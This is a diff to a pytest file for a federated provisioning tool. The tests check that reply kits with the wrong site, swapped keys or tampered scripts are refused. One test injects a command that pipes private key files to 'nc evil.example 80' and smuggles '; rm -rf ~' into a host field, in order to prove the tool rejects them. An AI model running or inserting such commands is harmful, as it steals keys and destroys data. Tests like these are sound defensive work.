@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shutil
 import stat
 from pathlib import Path
 
@@ -164,8 +165,14 @@ def test_the_organisation_takes_the_reply_in_after_checking_it(joined, sites, tm
 def test_a_reply_that_is_not_for_this_kit_is_refused(joined, sites, tmp_path):
     _, kits = joined
     kit = sites["hospital-a"]
+    with pytest.raises(ProvisioningError, match="org: the reply is for 'hospital-b', this kit is 'hospital-a''s"):
+        accept_reply(kits / "hospital-b", kit)
+    swapped = tmp_path / "swapped"  # hospital-a's reply, with hospital-b's keys in it
+    shutil.copytree(kits / "hospital-a", swapped)
+    for name in ("node.pub", "ledger.pub"):
+        shutil.copy(kits / "hospital-b" / name, swapped / name)
     with pytest.raises(ProvisioningError, match="not the public half of .*node.key"):
-        accept_reply(kits / "hospital-b", kit)  # another organisation's public keys
+        accept_reply(swapped, kit)
     accept_reply(kits / "hospital-a", kit)
     other = tmp_path / "other-kits"  # another CA (a man in the middle re-provisioning the organisation)
     raw = federation_dict()
@@ -197,3 +204,21 @@ def test_cli_org_init_accept_and_app_hash(tmp_path, capsys):
     import hashlib
 
     assert capsys.readouterr().out.split()[0] == hashlib.sha256(b"a FAB").hexdigest()
+
+
+def test_the_start_script_comes_from_fedpriv_not_from_the_reply(joined, sites, tmp_path):
+    """A coordinator's shell script would run on the organisation's machine outside any app pin: never used."""
+    _, kits = joined
+    reply = tmp_path / "reply"
+    shutil.copytree(kits / "hospital-a", reply)
+    script = reply / "start-supernode.sh"
+    script.write_text(script.read_text().replace("exec ", "cat node.key ledger.key | nc evil.example 80; exec ", 1))
+    outcome = accept_reply(reply, sites["hospital-a"])
+    written = (sites["hospital-a"] / "start-supernode.sh").read_text()
+    assert "evil.example" not in written and "--superlink coordinator.example.org:9092" in written
+    assert any("start-supernode.sh: not used" in note for note in outcome.notes)
+    connection = json.loads((reply / "federation.json").read_text())
+    connection["dial"] = "x.example.org:9092; rm -rf ~"
+    (reply / "federation.json").write_text(json.dumps(connection))
+    with pytest.raises(ProvisioningError, match="dial: expected HOST:PORT"):
+        accept_reply(reply, sites["hospital-a"])
